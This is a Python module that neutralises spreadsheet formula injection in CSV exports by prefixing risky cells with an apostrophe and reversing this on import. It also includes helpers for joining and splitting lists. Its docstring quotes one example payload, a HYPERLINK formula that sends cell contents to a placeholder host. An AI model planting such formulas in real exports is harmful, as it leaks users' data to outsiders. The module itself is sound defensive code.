"""CSV cells that a spreadsheet will not run.

Excel, LibreOffice and Google Sheets treat a cell that starts with ``=``,
``+``, ``-`` or ``@`` (and, in some versions, a tab or a carriage return) as a
formula; a name lifted from a hostile web page such as
``=HYPERLINK("http://x/?"&A1,"Click")`` would run when an analyst opens the
export. On export such a cell gets a leading apostrophe, which spreadsheets
show as text and hide. On import the apostrophe is removed again, so a list
exported and imported back is unchanged.

To keep that round trip exact, a value that already starts with an apostrophe
followed by one of those characters (or by a second apostrophe) is also
prefixed; any other value is written as it is.
"""

from __future__ import annotations

FORMULA_STARTS = frozenset("=+-@\t\r")
_QUOTE = "'"
_PROTECTED = FORMULA_STARTS | {_QUOTE}


def to_cell(value: str) -> str:
    """``value`` made safe to open in a spreadsheet (see the module doc)."""
    if not value:
        return value
    if value[0] in FORMULA_STARTS or (
        value[0] == _QUOTE and len(value) > 1 and value[1] in _PROTECTED
    ):
        return _QUOTE + value
    return value


def from_cell(cell: str) -> str:
    """The value :func:`to_cell` wrote (the inverse, for every string)."""
    if len(cell) > 1 and cell[0] == _QUOTE and cell[1] in _PROTECTED:
        return cell[1:]
    return cell


def join_list(values: list[str], sep: str = ";") -> str:
    """Several values in one cell, ``sep`` between them; a ``sep`` or a
    backslash inside a value is escaped with a backslash, so that
    :func:`split_list` gives the same values back."""
    return sep.join(v.replace("\\", "\\\\").replace(sep, "\\" + sep) for v in values)


def split_list(cell: str, sep: str = ";") -> list[str]:
    """The values :func:`join_list` wrote. In a hand-written list a backslash
    followed by anything but ``sep`` or a backslash is kept as it is."""
    out, cur, i = [], [], 0
    while i < len(cell):
        c = cell[i]
        if c == "\\" and i + 1 < len(cell) and cell[i + 1] in (sep, "\\"):
            cur.append(cell[i + 1])
            i += 2
            continue
        if c == sep:
            out.append("".join(cur))
            cur = []
        else:
            cur.append(c)
        i += 1
    out.append("".join(cur))
    return out
